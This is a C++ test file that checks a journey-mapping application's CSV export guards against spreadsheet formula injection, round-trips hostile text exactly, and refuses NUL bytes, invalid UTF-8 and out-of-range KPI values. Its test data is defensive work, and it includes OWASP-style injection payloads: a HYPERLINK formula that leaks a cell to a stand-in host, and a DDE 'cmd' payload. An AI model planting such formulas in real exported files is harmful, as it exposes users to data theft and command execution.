// Hostile text in CSV (io/csvformat.h), every input made here by code: a
// formula start is guarded in the text columns and nowhere else, a guarded
// cell reads back exactly, names keep the spaces around them, text CXMap
// cannot keep exactly is refused by line and column, KPI values stay within
// +/-1e15; and a property: thousands of generated documents full of such text
// go through the CSV writer and come back the same, byte for byte.

#include <catch2/catch.hpp>

#include "csvcheck.h"
#include "hostiledocument.h"
#include "io/celltext.h"
#include "testprocess.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QTemporaryDir>
#include <QUndoStack>

#include <algorithm>
#include <random>
#include <tuple>

using namespace cx;
using namespace cx::test;

namespace {

// The columns toCsv writes, by their header name.
const QStringList header{"journey",     "stage",    "lane",        "lane_kind",    "title",
                         "description", "channel",  "accountable", "contributing", "emotion",
                         "evidence",    "severity", "impact",      "status",       "votes",
                         "tags",        "kpis"};
const QStringList textColumns{"journey", "stage",       "lane",         "title", "description",
                              "channel", "accountable", "contributing", "tags",  "kpis"};

// What a spreadsheet runs as a formula, or takes as a text mark: the starts
// OWASP names, with "'" that the guard itself uses.
const QString formulaStarts = QStringLiteral("=+-@\t\r'");

// Each start with payloads after it: OWASP's examples and plainer ones.
QStringList formulaTexts()
{
    const QStringList payloads{
        QStringLiteral("1+1"),
        QStringLiteral("HYPERLINK(\"https://example.invalid/?leak=\"&A1,\"Click\")"),
        QStringLiteral("cmd|' /C calc'!A0"),
        QStringLiteral("SUM(A1:A9)"),
        QStringLiteral("=2"),
        QStringLiteral("'quoted"),
        QStringLiteral(" spaced "),
        QStringLiteral("x"),
    };
    QStringList out;
    for (QChar start : formulaStarts) {
        for (const QString& payload : payloads)
            out.append(start + payload);
    }
    return out;
}

// A document of one journey per text: every text column of its card starts
// with the text (names get a suffix that keeps them apart), the emotion is
// -2 and the votes 3, so that number cells can be seen beside them.
DocumentData oneCardPerText(const QStringList& texts)
{
    DocumentData d;
    d.title = QStringLiteral("Formulas");
    for (int i = 0; i < texts.size(); ++i) {
        const QString& t = texts[i];
        const Id id = i + 1;
        const QString n = QStringLiteral(" #%1").arg(i);
        d.departments.append(
            {2 * id - 1, t + n + QStringLiteral("a"), QStringLiteral("A"), Qt::red, {}, {}, 2 * i});
        d.departments.append({2 * id,
                              t + n + QStringLiteral("c"),
                              QStringLiteral("C"),
                              Qt::blue,
                              {},
                              {},
                              2 * i + 1});
        d.journeys.append({id, t + n, {}, JourneyState::Current, 0, 0, i});
        d.stages.append({id, id, t + n, {}, 0});
        d.lanes.append({id, id, t + n, LaneKind::PainPoint, 0});
        Card c;
        c.id = id;
        c.stageId = c.laneId = id;
        c.title = c.description = c.channel = t + QStringLiteral("t"); // never blank
        c.accountableId = 2 * id - 1;
        c.contributingIds = {2 * id};
        c.emotion = -2;
        c.votes = 3;
        c.tags = {t, QStringLiteral("plain")};
        c.kpis = {{t + QStringLiteral("k"), KpiKind::Free, -5, -1e15, t}};
        d.cards.append(c);
    }
    return d;
}

} // namespace

TEST_CASE("CSV text cells that start like a formula get a quote, other cells never", "[csv]")
{
    const QStringList texts = formulaTexts();
    REQUIRE(texts.size() == 56); // 7 starts x 8 payloads
    const DocumentData d = oneCardPerText(texts);
    const QByteArray csv = toCsv(d);
    const QList<QStringList> records = cells(csv);
    REQUIRE(records.size() == texts.size() + 1);
    REQUIRE(records[0] == header);
    int guarded = 0;
    for (qsizetype r = 1; r < records.size(); ++r) {
        const QStringList& row = records[r];
        const Card& c = d.cards[r - 1];
        INFO("row " << r << ": " << row.join(u'|').toStdString());
        // The text each column holds, lists and KPIs packed into one cell.
        const QStringList values{d.journeys[r - 1].name,
                                 d.stages[r - 1].name,
                                 d.lanes[r - 1].name,
                                 c.title,
                                 c.description,
                                 c.channel,
                                 d.departments[2 * r - 2].name,
                                 joinListText({d.departments[2 * r - 1].name}),
                                 joinListText(c.tags),
                                 kpisToText(c.kpis)};
        for (qsizetype i = 0; i < textColumns.size(); ++i) {
            const QString& value = values[i];
            const bool formula = !value.isEmpty() && formulaStarts.contains(value.front());
            CHECK(row[header.indexOf(textColumns[i])] ==
                  (formula ? QLatin1Char('\'') + value : value));
            guarded += formula;
        }
        // No cell a spreadsheet would run ("-" starts the emotion, below).
        for (const QString& cell : row)
            CHECK_FALSE((!cell.isEmpty() && QStringView(u"=+@\t\r").contains(cell.front())));
        // Numbers as numbers and CXMap's words as they are, never guarded.
        CHECK(row[header.indexOf("emotion")] == QStringLiteral("-2"));
        CHECK(row[header.indexOf("votes")] == QStringLiteral("3"));
        CHECK(row[header.indexOf("lane_kind")] == QStringLiteral("pain_point"));
    }
    // Plain text cells always; list and KPI cells unless their first item's
    // tab or CR (a space at its edge) or a KPI name's "=" is escaped by "\".
    CHECK(guarded == 7 * 56 + 5 * 8 + 5 * 8 + 4 * 8);
    const QStringList& plus = records[1 + 1 * 8]; // "+1+1"
    CHECK(plus[header.indexOf("title")] == QStringLiteral("'+1+1t"));
    CHECK(plus[header.indexOf("journey")] == QStringLiteral("'+1+1 #8"));
    CHECK(plus[header.indexOf("tags")] == QStringLiteral("'+1+1; plain"));
    CHECK(plus[header.indexOf("kpis")] == QStringLiteral("'+1+1k=-5/-1000000000000000 +1+1"));
    CHECK(plus[header.indexOf("contributing")] == QStringLiteral("'+1+1 #8c"));
    const QStringList& quote = records[1 + 6 * 8 + 4]; // "'=2"
    CHECK(quote[header.indexOf("title")] == QStringLiteral("''=2t"));
    CHECK(quote[header.indexOf("tags")] == QStringLiteral("''=2; plain"));
    const QStringList& tab = records[1 + 4 * 8]; // "\t1+1"
    CHECK(tab[header.indexOf("title")] == QStringLiteral("'\t1+1t"));
    CHECK(tab[header.indexOf("tags")] == QStringLiteral("\\\t1+1; plain"));

    // Back in, the same cards; out again, the same bytes.
    test::TempDir dir;
    auto doc = emptyDoc(dir, QStringLiteral("formulas.cxmap"));
    REQUIRE_FALSE(importText(*doc, csv));
    const DocumentData back = doc->snapshot();
    CHECK(namedCards(back) == namedCards(d));
    CHECK(toCsv(back) == csv);
}

TEST_CASE("text that only looks like a formula further in is written as it is", "[csv]")
{
    DocumentData d = oneCardPerText({QStringLiteral("a=1+1"), QStringLiteral("x-2"),
                                     QStringLiteral("mail@example.org"), QStringLiteral("x'")});
    d.cards[0].emotion = 2;
    const QList<QStringList> records = cells(toCsv(d));
    REQUIRE(records.size() == 5);
    CHECK(records[1][header.indexOf("title")] == QStringLiteral("a=1+1t"));
    CHECK(records[1][header.indexOf("emotion")] == QStringLiteral("2"));
    CHECK(records[2][header.indexOf("title")] == QStringLiteral("x-2t"));
    CHECK(records[3][header.indexOf("title")] == QStringLiteral("mail@example.orgt"));
    CHECK(records[4][header.indexOf("title")] == QStringLiteral("x't"));
    // A leading space is no formula in a plain cell; a list item escapes it.
    d = oneCardPerText({QStringLiteral(" =1+1")});
    const QList<QStringList> spaced = cells(toCsv(d));
    CHECK(spaced[1][header.indexOf("title")] == QStringLiteral(" =1+1t"));
    CHECK(spaced[1][header.indexOf("tags")] == QStringLiteral("\\ =1+1; plain"));
}

TEST_CASE("a CSV import takes exactly one leading quote off text cells only", "[csv]")
{
    const QByteArray head = "journey,stage,lane,title,description,tags,emotion\r\n";
    const Result<CsvImport> rows = fromCsv(head + "'J,''S,L,'=1+1,'''x,'-a; 'b,-2\r\n"
                                                  "J,S,L,x',' ,''',\r\n");
    REQUIRE(rows.ok());
    REQUIRE(rows->rows.size() == 2);
    const CardRow& a = rows->rows[0];
    CHECK(a.journey == QStringLiteral("J"));
    CHECK(a.stage == QStringLiteral("'S"));
    CHECK(a.card.title == QStringLiteral("=1+1"));
    CHECK(a.card.description == QStringLiteral("''x"));
    CHECK(a.card.tags == QStringList{"-a", "'b"}); // the cell's quote, not an item's
    CHECK(a.card.emotion == -2);
    const CardRow& b = rows->rows[1];
    CHECK(b.card.title == QStringLiteral("x'"));
    CHECK(b.card.description == QStringLiteral(" "));
    CHECK(b.card.tags == QStringList{"''"});

    // Number and word columns keep a quote, and so refuse it.
    const std::vector<std::pair<QByteArray, QString>> refused = {
        {"journey,stage,lane,title,emotion\r\nJ,S,L,T,'-2\r\n",
         "line 2, column emotion: \u201c'-2\u201d is not a whole number"},
        {"journey,stage,lane,title,votes\r\nJ,S,L,T,'3\r\n",
         "line 2, column votes: \u201c'3\u201d is not a whole number"},
        {"journey,stage,lane,title,status\r\nJ,S,L,T,'done\r\n",
         "line 2, column status: unknown status \u201c'done\u201d (one of open, in_progress, "
         "done, dropped)"},
        {"journey,stage,lane,title\r\nJ,S,L,'\r\n", "line 2, column title: must not be empty"},
        {"journey,stage,lane,title\r\n'  ,S,L,T\r\n", "line 2, column journey: must not be empty"},
    };
    for (const auto& [csv, message] : refused) {
        INFO(csv.toStdString());
        const Result<CsvImport> read = fromCsv(csv);
        REQUIRE_FALSE(read.ok());
        CHECK(read.error().message == message);
    }
}

TEST_CASE("names keep the spaces around them through CSV, matching ignores them", "[csv]")
{
    DocumentData d = test::smallDocument();
    d.journeys[0].name = QStringLiteral("  Broadband ");
    d.stages[0].name = QStringLiteral(" Awareness\t");
    d.lanes[1].name = QStringLiteral("Touchpoints  ");
    d.departments[0].name = QStringLiteral(" Marketing ");
    d.departments[1].name = QStringLiteral("\u3000IT\u00a0"); // ideographic and no-break spaces
    d.cards[0].tags = {QStringLiteral(" ads"), QStringLiteral("brand "), QStringLiteral("  ")};
    d.cards[0].kpis = {{QStringLiteral(" CTR "), KpiKind::Free, 1.5, 2.0, QStringLiteral(" % ")},
                       {QStringLiteral("NPS\t"), KpiKind::Nps, -12, std::nullopt, {}}};
    const QByteArray csv = toCsv(d);
    CHECK(csv.contains("\\ ads; brand\\ ; \\ \\ ,"));
    CHECK(csv.contains("\\ CTR\\ =1.5/2 \\ %\\ ; NPS\\\t=-12 [nps]"));

    test::TempDir dir;
    auto doc = emptyDoc(dir, QStringLiteral("spaces.cxmap"));
    REQUIRE_FALSE(importText(*doc, csv));
    CHECK(namedCards(doc->snapshot()) == namedCards(d));
    CHECK(doc->journeyIds().size() == 1);
    CHECK(doc->departmentIds().size() == 2);
    CHECK(toCsv(doc->snapshot()) == csv);

    // Into the small map itself: names that differ only in case and spaces
    // find what is there; a name not there is created exactly as written.
    auto small = test::smallDocumentFile(dir);
    const qsizetype stages = small->stageIds(1).size();
    REQUIRE_FALSE(importText(*small,
                             "journey,stage,lane,title,accountable,contributing\r\n"
                             " broadband ,PURCHASE ,  touchpoints,T,\" it\",\\ New dep\\ \r\n"
                             "Broadband,\"  New stage \",Touchpoints,U,,\r\n"));
    CHECK(small->journeyIds().size() == 1);
    const QList<Id> stageIds = small->stageIds(1);
    REQUIRE(stageIds.size() == stages + 1);
    CHECK(small->stage(stageIds.last())->name == QStringLiteral("  New stage "));
    CHECK(small->departmentIds().size() == 3);
    CHECK(small->department(small->departmentIds().last())->name == QStringLiteral(" New dep "));
    CHECK(small->laneIds(1).size() == 3);
}

TEST_CASE("a name found exactly wins over one that differs in case or spaces", "[csv]")
{
    DocumentData d = test::smallDocument();
    d.stages[1].name = QStringLiteral("awareness "); // beside "Awareness"
    test::TempDir dir;
    auto doc = Document::create(dir.file(QStringLiteral("twins.cxmap")), d);
    REQUIRE(doc.ok());
    const Result<CsvImport> rows =
        fromCsv("journey,stage,lane,title\r\nBroadband,awareness ,Touchpoints,A\r\n"
                "Broadband,Awareness,Touchpoints,B\r\nBroadband,AWARENESS,Touchpoints,C\r\n");
    REQUIRE(rows.ok());
    const Result<QList<Id>> added = importCsv(**doc, *rows);
    REQUIRE(added.ok());
    Document& m = **doc;
    CHECK(m.card(added->at(0))->stageId == 2);
    CHECK(m.card(added->at(1))->stageId == 1);
    CHECK(m.card(added->at(2))->stageId == 1); // no exact one: the first in order
}

TEST_CASE("new lanes come back in the order a CSV shows them", "[csv]")
{
    // Stage 1 shows only "Second"; stage 2 shows "First" above "Second".
    const Result<CsvImport> rows = fromCsv("journey,stage,lane,title\r\n"
                                           "J,S1,Second,a\r\nJ,S2,First,b\r\nJ,S2,Second,c\r\n"
                                           "J,S2,Third,d\r\nJ,S3,Third,e\r\nJ,S3,Other,f\r\n"
                                           "J,S3,Second,g\r\n"); // "Second" below "Third": a cycle
    REQUIRE(rows.ok());
    test::TempDir dir;
    auto doc = emptyDoc(dir, QStringLiteral("lanes.cxmap"));
    REQUIRE(importCsv(*doc, *rows).ok());
    QStringList lanes;
    for (Id id : doc->laneIds(doc->journeyIds().first()))
        lanes.append(doc->lane(id)->name);
    // First leads; Second, Third and Other wait on each other in a circle,
    // broken at the one named first.
    CHECK(lanes == QStringList{"First", "Second", "Third", "Other"});

    const Result<CsvImport> plain = fromCsv("journey,stage,lane,title\r\n"
                                            "J,S1,B,a\r\nJ,S2,A,b\r\nJ,S2,B,c\r\nJ,S2,C,d\r\n");
    REQUIRE(plain.ok());
    auto second = emptyDoc(dir, QStringLiteral("plain.cxmap"));
    REQUIRE(importCsv(*second, *plain).ok());
    lanes.clear();
    for (Id id : second->laneIds(second->journeyIds().first()))
        lanes.append(second->lane(id)->name);
    CHECK(lanes == QStringList{"A", "B", "C"});
}

TEST_CASE("a NUL in a CSV cell is refused by line and column, other control characters are "
          "kept",
          "[csv]")
{
    test::TempDir dir;
    auto doc = test::smallDocumentFile(dir);
    const DocumentData before = doc->snapshot();
    const QByteArray head = "journey,stage,lane,title,description,tags\r\n";
    const QByteArray good = "Broadband,Purchase,Touchpoints,Fine,,\r\n";
    const QString why = QStringLiteral("a NUL character, which CXMap cannot keep exactly");
    const QByteArray nul(1, '\0');
    // Unquoted in a title; on the second line of a quoted description; in a list; in the header.
    const std::vector<std::pair<QByteArray, QString>> cases = {
        {head + good + "Broadband,Purchase,Touchpoints,Bad" + nul + "title,,\r\n",
         "line 3, column title: " + why},
        {head + good + "Broadband,Purchase,Touchpoints,T,\"first line\r\nsecond" + nul + "\",\r\n",
         "line 4, column description: " + why},
        {head + good + "Broadband,Purchase,Touchpoints,T,,ok; b" + nul + "d\r\n",
         "line 3, column tags: " + why},
        {"journey,stage,lane,ti" + nul + "tle\r\n", "line 1, column 4: " + why},
    };
    for (const auto& [csv, message] : cases) {
        INFO(csv.toPercentEncoding().toStdString());
        const Error err = importText(*doc, csv);
        CHECK(err.code == ErrorCode::InvalidData);
        CHECK(err.message == message);
    }
    CHECK(doc->snapshot() == before);
    CHECK(doc->undoStack()->count() == 0);

    // Every other control character is text the map keeps (JSON keeps it too).
    int kept = 0;
    for (char c = 1; c < 0x20; ++c) {
        if (c == '\t' || c == '\n' || c == '\r')
            continue;
        const QByteArray ch(1, c);
        const Result<CsvImport> rows = fromCsv(head + "Broadband,Purchase,Touchpoints,Bad" + ch +
                                               "title,\"x\r\ny" + ch + "\",\r\n");
        INFO(int(c));
        REQUIRE(rows.ok());
        CHECK(rows->rows[0].card.title ==
              QStringLiteral("Bad") + QChar(c) + QStringLiteral("title"));
        CHECK(rows->rows[0].card.description == QStringLiteral("x\r\ny") + QChar(c));
        ++kept;
    }
    CHECK(kept == 28);

    // Tab, LF, CR and CRLF are text and are kept exactly, in quotes too.
    const Result<CsvImport> rows =
        fromCsv(head + "Broadband,Purchase,Touchpoints,a\tb,\"c\rd\r\ne\nf\",\"\tg\"\r\n");
    REQUIRE(rows.ok());
    CHECK(rows->rows[0].card.title == QStringLiteral("a\tb"));
    CHECK(rows->rows[0].card.description == QStringLiteral("c\rd\r\ne\nf"));
    CHECK(rows->rows[0].card.tags == QStringList{"g"}); // an unescaped tab around an item goes
}

TEST_CASE("bytes that are not UTF-8 are refused on their own line", "[csv]")
{
    // Each is what a decoder would turn into U+FFFD or "?" if it were let through.
    const std::vector<std::pair<QByteArray, const char*>> sequences = {
        {"\x80", "a lone continuation byte"},
        {"\xC3", "a sequence cut short"},
        {"\xC0\x80", "NUL, overlong"},
        {"\xC1\xBF", "overlong ASCII"},
        {"\xE0\x80\xAF", "an overlong slash"},
        {"\xED\xA0\x80", "a lone high surrogate (U+D800)"},
        {"\xED\xBF\xBF", "a lone low surrogate (U+DFFF)"},
        {"\xED\xA0\xBD\xED\xB8\x80", "a surrogate pair, CESU-8"},
        {"\xF4\x90\x80\x80", "past U+10FFFF"},
        {"\xF8\x88\x80\x80\x80", "a five-byte form"},
        {"\xFE", "the byte FE"},
        {"\xFF", "the byte FF"},
    };
    test::TempDir dir;
    auto doc = test::smallDocumentFile(dir);
    const DocumentData before = doc->snapshot();
    for (const auto& [bytes, what] : sequences) {
        INFO(what);
        const QByteArray csv = "journey,stage,lane,title,channel\r\n"
                               "Broadband,Purchase,Touchpoints,Fine,web\r\n"
                               "Broadband,Purchase,Touchpoints,\"one\ntwo\nthree " +
                               bytes + "\",web\r\n";
        CHECK(importText(*doc, csv).message ==
              QStringLiteral("line 5, column title: not valid UTF-8"));
        const QByteArray unquoted = "journey,stage,lane,title,channel\r\nBroadband,Purchase,"
                                    "Touchpoints,Fine,w" +
                                    bytes + "b\r\n";
        CHECK(importText(*doc, unquoted).message ==
              QStringLiteral("line 2, column channel: not valid UTF-8"));
    }
    CHECK(doc->snapshot() == before);
    // The largest code point, a noncharacter and U+FFFD itself are text.
    const Result<CsvImport> rows = fromCsv("journey,stage,lane,title\r\nJ,S,L,\xF4\x8F\xBF\xBF"
                                           "\xEF\xBF\xBF\xEF\xBF\xBD\r\n");
    REQUIRE(rows.ok());
    CHECK(rows->rows[0].card.title == QString::fromUcs4(U"\U0010FFFF\uFFFF\uFFFD"));
}

TEST_CASE("KPI values and targets in CSV stay within +/-1e15", "[csv]")
{
    const QByteArray head = "journey,stage,lane,title,kpis\r\nJ,S,L,Fine,Cost=1\r\n";
    const std::vector<std::pair<const char*, const char*>> refused = {
        {"Cost=1000000000000001", "1000000000000001"},
        {"Cost=-1000000000000001", "-1000000000000001"},
        {"Cost=1e16", "1e+16"},
        {"Cost=1/2e15", "2e+15"},
        {"Cost=5/-1e300 £", "-1e+300"},
        {"Big=1.7976931348623157e308", "1.7976931348623157e+308"},
    };
    for (const auto& [cell, shown] : refused) {
        INFO(cell);
        const Result<CsvImport> rows = fromCsv(head + "J,S,L,Card,\"" + cell + "\"\r\n");
        REQUIRE_FALSE(rows.ok());
        const QString name = QString::fromUtf8(cell).section(u'=', 0, 0);
        CHECK(rows.error().message ==
              QStringLiteral("line 3, column kpis: KPI \u201c%1\u201d: %2 is out of range "
                             "-1e15..1e15 for free")
                  .arg(name, QLatin1String(shown)));
    }
    const Result<CsvImport> edge =
        fromCsv(head + "J,S,L,Card,Cost=1e15/-1e15; Tiny=-0.000001; Zero=-0\r\n");
    REQUIRE(edge.ok());
    const QList<Kpi>& kpis = edge->rows[1].card.kpis;
    REQUIRE(kpis.size() == 3);
    CHECK(kpis[0].value == 1e15);
    CHECK(kpis[0].target == -1e15);
    CHECK(kpis[1].value == -0.000001);
}

TEST_CASE("property: hostile documents survive CSV export, import and export unchanged", "[csv]")
{
    constexpr std::uint32_t documents = 3000;
    // The map is scratch: in memory where there is a tmpfs, so that the test
    // times the formats, not the disk's syncs (two per document).
    const QString shm = QStringLiteral("/dev/shm");
    QTemporaryDir dir((QFileInfo(shm).isWritable() ? shm : QDir::tempPath()) +
                      QStringLiteral("/cxmap-csv-property-XXXXXX"));
    REQUIRE(dir.isValid());
    auto created = Document::create(dir.filePath(QStringLiteral("property.cxmap")), {});
    REQUIRE(created.ok());
    Document* doc = created->get();
    const DocumentData empty = doc->snapshot();
    qsizetype cards = 0, guardedCells = 0;
    for (std::uint32_t seed = 1; seed <= documents; ++seed) {
        const DocumentData d = hostileDocument(seed);
        const QByteArray csv = toCsv(d);
        INFO("seed " << seed << "\n" << csv.toStdString());
        for (const QStringList& record : cells(csv)) {
            for (const QString& cell : record)
                guardedCells += cell.startsWith(u'\'');
        }
        const Result<CsvImport> rows = fromCsv(csv);
        REQUIRE(rows.ok());
        REQUIRE(rows->rows.size() == d.cards.size());
        const Result<QList<Id>> added = importCsv(*doc, *rows);
        REQUIRE(added.ok());
        const DocumentData back = doc->snapshot();
        REQUIRE(namedCards(back) == namedCards(d));
        REQUIRE(toCsv(back) == csv);
        cards += d.cards.size();
        doc->undoStack()->undo(); // back to empty for the next one
        REQUIRE(doc->cardCount() == 0);
    }
    CHECK(doc->snapshot() == empty);
    // 35,694 cards and 132,221 guarded cells in the 3,000 documents of these seeds.
    CHECK(cards > 30000);
    CHECK(guardedCells > 100000);
}

TEST_CASE("cxmap import refuses a CSV with a NUL and names where it is", "[cli][csv]")
{
    test::TempDir dir;
    const QString map = test::sampleMapFile(dir);
    const QByteArray before = test::readFile(map);
    const QString bad = dir.file(QStringLiteral("nul.csv"));
    test::writeFile(
        bad, QByteArray("journey,stage,lane,title\r\nJ,S,L,Fine\r\nJ,S,L,\"Two\nli\0ne\"\r\n", 57));
    const test::Run r = test::cxmap({QStringLiteral("import"), map, QStringLiteral("--csv"), bad});
    CHECK(r.code == 1);
    CHECK(r.err.contains(QStringLiteral("nul.csv: line 4, column title: a NUL character")));
    CHECK(test::readFile(map) == before);
}
